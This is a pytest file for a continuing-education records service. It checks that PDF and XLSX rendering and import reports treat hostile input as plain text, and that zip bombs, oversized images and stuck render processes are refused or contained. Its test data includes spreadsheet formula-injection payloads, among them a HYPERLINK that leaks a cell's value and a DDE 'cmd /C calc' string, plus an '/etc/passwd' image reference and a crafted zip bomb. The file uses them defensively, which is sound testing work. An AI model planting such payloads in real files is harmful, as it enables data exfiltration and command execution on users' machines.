"""Outputs are data, never code: hostile text in the PDF and XLSX forms and in import reports, and
rendering that cannot hold the service up."""

from __future__ import annotations

import asyncio
import http.server
import io
import threading
import time
from datetime import date, datetime, timezone

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from ce_service import rendering
from ce_service.errors import Unavailable
from ce_service.imports.tables import read_rows, table_bytes
from ce_service.review.form import Course, Decision, FormData, render_pdf, render_xlsx


class Hits(http.server.BaseHTTPRequestHandler):
    """Counts every request: reportlab must make none."""

    count = 0

    def do_GET(self) -> None:  # noqa: N802 (the standard library's name)
        Hits.count += 1
        self.send_response(200)
        self.end_headers()

    def log_message(self, *args) -> None:
        pass


@pytest.fixture
def listener():
    server = http.server.HTTPServer(("127.0.0.1", 0), Hits)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    Hits.count = 0
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


def form(*titles: str) -> FormData:
    at = datetime(2024, 5, 1, tzinfo=timezone.utc)
    return FormData(
        name="<b>张三</b>", national_id="522601198001011238", unit="=HYPERLINK(\"http://x\")", series="工程",
        level="intermediate", year=2024,
        courses=[Course(t, "<font size=40>机构</font>", date(2024, 5, 1), 12, "professional", "provider", "registered")
                 for t in titles],
        public=0, professional=12, total=12, rule="GZ-2021-ON", required=90, required_professional=60,
        verdict="short", decisions=[Decision(titles[0], "approve", "@SUM(1+1)", "unit_reviewer", at)], generated_at=at)


HOSTILE = ['<img src="{url}/x" width="5" height="5"/>', '<img src="/etc/passwd"/>', "<para><b>not closed",
           "a & b < c > d", "=HYPERLINK(\"{url}/leak?\"&D3)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]


def test_the_pdf_shows_markup_as_text_and_fetches_nothing(listener):
    titles = [t.format(url=listener) for t in HOSTILE]
    pdf = render_pdf(form(*titles))
    assert Hits.count == 0
    assert b"/Subtype /Image" not in pdf
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)
    for shown in ("<img", "<para><b>not closed", "a & b < c > d", "<b>张三</b>", "<font size=40>"):
        assert shown in text.replace("\n", ""), shown


def test_the_xlsx_form_holds_would_be_formulas_as_text(tmp_path):
    titles = [t.format(url="http://127.0.0.1:1") for t in HOSTILE]
    (tmp_path / "f.xlsx").write_bytes(render_xlsx(form(*titles)))
    cells = [c for row in load_workbook(tmp_path / "f.xlsx").active.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert '=HYPERLINK("http://127.0.0.1:1/leak?"&D3)' in values and "@SUM(1+1)" in values
    assert '=HYPERLINK("http://x")' in values


def test_import_reports_never_start_a_formula_and_read_back_as_written(tmp_path):
    header = ["记录编号", "身份证号", "姓名", "年度", "类别", "学时", "课程名称", "完成日期"]
    rows = [["=1+1", "522601198001011238", "@me", 2024, "专业", "-5", "+课程", "2024-05-01"]]
    csv = table_bytes("csv", header, rows).decode("utf-8-sig")
    assert "'=1+1" in csv and "'@me" in csv and "'-5" in csv and "'+课程" in csv
    # Sent back in (a fixed rejected-rows file), the cells are what was written.
    [(_, cells)] = list(read_rows(table_bytes("csv", header, rows), "records"))
    assert (cells["external_id"], cells["name"], cells["course_title"]) == ("=1+1", "@me", "+课程")
    (tmp_path / "r.xlsx").write_bytes(table_bytes("xlsx", header, rows))
    sheet = load_workbook(tmp_path / "r.xlsx").active
    assert [c.data_type for c in sheet[2]][:3] == ["s", "s", "s"] and sheet["A2"].value == "=1+1"


def test_a_pool_first_used_from_a_thread_that_ended_still_works():
    """The pool outlives the thread that first used it (a sync test client's portal, a to_thread call)."""
    import threading

    done = []
    thread = threading.Thread(target=lambda: done.append(asyncio.run(rendering.off_loop(abs, -3, pool="thread"))))
    thread.start()
    thread.join()
    assert done == [3]
    time.sleep(1)   # long enough for a worker tied to that thread's end to have been killed
    assert asyncio.run(rendering.off_loop(abs, -4, pool="thread")) == 4


async def test_rendering_runs_in_its_own_process_and_a_stuck_one_is_replaced():
    started = time.monotonic()
    ticks = 0

    async def tick():
        nonlocal ticks
        while True:
            await asyncio.sleep(0.01)
            ticks += 1

    ticker = asyncio.create_task(tick())
    with pytest.raises(Unavailable, match="longer than"):
        await rendering.off_loop(time.sleep, 60, timeout=1)
    ticker.cancel()
    assert time.monotonic() - started < 30   # gave up at the timeout instead of waiting for the render
    assert ticks > 10                          # the event loop went on meanwhile
    # The stuck process was stopped; the next document renders in a fresh one.
    pdf = await rendering.off_loop(render_pdf, form("建筑结构抗震设计"))
    assert pdf.startswith(b"%PDF")


def test_an_xlsx_that_unpacks_too_far_is_refused_from_its_directory():
    """A few kilobytes of ZIP can unpack to a sheet of gigabytes or millions of shared strings."""
    import zipfile

    from ce_service.imports.tables import MAX_SHARED_STRINGS_BYTES, TableError

    good = table_bytes("xlsx", ["记录编号"], [["A-1"]])
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        for item in source.infolist():
            bomb.writestr(item, source.read(item))
        bomb.writestr("xl/sharedStrings.xml", b"<sst>" + b"<si><t>x</t></si>" * (MAX_SHARED_STRINGS_BYTES // 16 + 1)
                      + b"</sst>")
    assert len(out.getvalue()) < 200_000
    with pytest.raises(TableError, match="MB of text|packed"):
        list(read_rows(out.getvalue(), "records"))


def test_a_photo_with_too_many_pixels_is_refused_before_it_is_decoded(tmp_path):
    from PIL import Image

    from ce_service.errors import Invalid
    from ce_service.evidence.store import EvidenceStore

    big = io.BytesIO()
    Image.new("1", (13_000, 13_000)).save(big, "PNG")   # a small file that claims 169 million pixels
    assert len(big.getvalue()) < 1_000_000
    store = EvidenceStore(tmp_path, 10_000_000)
    with pytest.raises(Invalid) as refused:
        store.save(big.getvalue())
    assert refused.value.errors[0].field == "evidence" and "13000 × 13000" in refused.value.errors[0].message
    assert not any(tmp_path.iterdir())   # nothing stored


def test_a_rendering_process_dies_with_a_killed_parent():
    """A pool's worker holds both ends of its task queue and would outlive a parent killed by SIGTERM or
    SIGKILL (a stopped server, a killed job), waiting for ever; it must end with the parent instead."""
    # (The deadline below only bounds a failure; the worker checks its parent twice a second.)
    import os
    import signal
    import subprocess
    import sys

    code = ("import asyncio, os\nfrom ce_service import rendering\n"
            "async def main():\n    await rendering.off_loop(os.getpid)\n"
            "    print(list(rendering._pools['render'].executor._processes), flush=True)\n    await asyncio.sleep(120)\n"
            "asyncio.run(main())\n")
    parent = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, text=True,
                              cwd=os.path.dirname(os.path.dirname(os.path.dirname(__file__))))
    [child] = eval(parent.stdout.readline())
    parent.send_signal(signal.SIGKILL)
    parent.wait()

    def running(pid: int) -> bool:
        try:
            return open(f"/proc/{pid}/stat").read().split()[2] != "Z"
        except FileNotFoundError:
            return False

    deadline = time.monotonic() + 30
    while running(child) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not running(child)


def test_control_characters_surrogates_and_endless_titles_render_instead_of_failing(tmp_path):
    """Found by a red team: \\x01 broke openpyxl, a lone surrogate and a 100,000-character title broke reportlab."""
    titles = ["a\x01b\x0bc\x1bd", "lone \ud800 surrogate", "长" * 100_000, "non\uffffchar\ufffe"]
    pdf = render_pdf(form(*titles))
    assert pdf.startswith(b"%PDF")
    (tmp_path / "f.xlsx").write_bytes(render_xlsx(form(*titles)))
    values = [c for row in load_workbook(tmp_path / "f.xlsx").active.iter_rows(values_only=True) for c in row if c]
    assert "abcd" in values and "nonchar" in values   # U+FFFF and U+FFFE are not allowed in XML: dropped
    report = table_bytes("xlsx", ["课程名称"], [["a\x01b"], ["x\ud800"]])
    assert [r[0].value for r in load_workbook(io.BytesIO(report)).active.iter_rows(min_row=2)] == ["ab", "x"]
